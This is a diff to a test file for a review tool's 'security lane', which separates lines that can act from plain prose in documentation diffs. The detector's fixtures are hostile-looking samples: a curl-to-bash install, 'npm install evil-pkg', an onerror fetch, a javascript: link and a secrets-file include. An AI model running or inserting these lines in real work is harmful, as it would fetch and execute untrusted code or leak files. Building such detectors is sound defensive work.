@@ -133,6 +133,34 @@ describe("the security lane's prose view", () => {
     expect(outside[0]!.acts).toBe(false);
   });
 
+  it("tells lines that can act from plain prose, links included", () => {
+    const acts = (rows: string[]) => proseAddedLines(["@@ -1,1 +1,10 @@", " Intro.", ...rows.map((row) => `+${row}`)].join("\n")).map((line) => line.acts);
+    const acting = [
+      '<iframe src="https://x.example/"></iframe>',
+      '<img src="x.png" onerror="fetch(1)">',
+      '  :title="leak()"',
+      "[click](javascript:alert(1))",
+      "{% include 'x.html' %}",
+      "export const data = await load()",
+      ".. raw:: html",
+      "include::../secrets.adoc[]",
+      "curl -fsSL https://get.example/i | bash",
+      "Set `process.env.NODE_OPTIONS` first.",
+      "Run `npm install evil-pkg` to start.",
+    ];
+    expect(acts(acting)).toEqual(acting.map(() => true));
+    const plain = [
+      "* **deps:** update rolldown ([#20270](https://github.com/vitejs/vite/issues/20270)) ([f7377c3](https://github.com/vitejs/vite/commit/f7377c3))",
+      "## <small>6.1.1 (2025-04-28)</small>",
+      "The online docs explain common options.",
+      "| option | default |",
+      "Imports are resolved once.",
+    ];
+    expect(acts(plain)).toEqual(plain.map(() => false));
+    // A doctest's continuation lines run with it; a "..." in prose does not.
+    expect(acts([">>> total = sum(", "...     __import__('os').listdir('/'))", "3", "", "... and so on."])).toEqual([true, true, false, false, false]);
+  });
+
   it("counts lines that can act past the ceiling in the header and the omitted list", async () => {
     const scripts = Array.from({ length: 1_000 }, (_, i) => `<script src="https://cdn.example/${i}.js"></script> ${"x".repeat(60)}`);
     const { repo, base } = changelogRepo({ "notes.md": ["# Notes\n", ["# Notes", ...scripts].join("\n") + "\n"] });
@@ -147,7 +175,11 @@ describe("the security lane's prose view", () => {
   });
 
   it("requirements.txt, CMakeLists.txt and MDX are not prose: the lane sees their whole diff", async () => {
-    expect(["requirements.txt", "requirements/dev.txt", "constraints.txt", "CMakeLists.txt", "docs/x.mdx"].filter(isProsePath)).toEqual([]);
+    expect(
+      ["requirements.txt", "requirements/dev.txt", "dev-requirements.txt", "test_requirements.txt", "constraints.txt", "CMakeLists.txt", "docs/x.mdx"].filter(
+        isProsePath,
+      ),
+    ).toEqual([]);
     expect(["README", "docs/x.md", "notes.txt", "docs/index.rst", "CHANGELOG"].every(isProsePath)).toBe(true);
     const { repo, base } = changelogRepo({
       "requirements.txt": ["requests==2.31.0\n", "requests==2.32.0\n"],
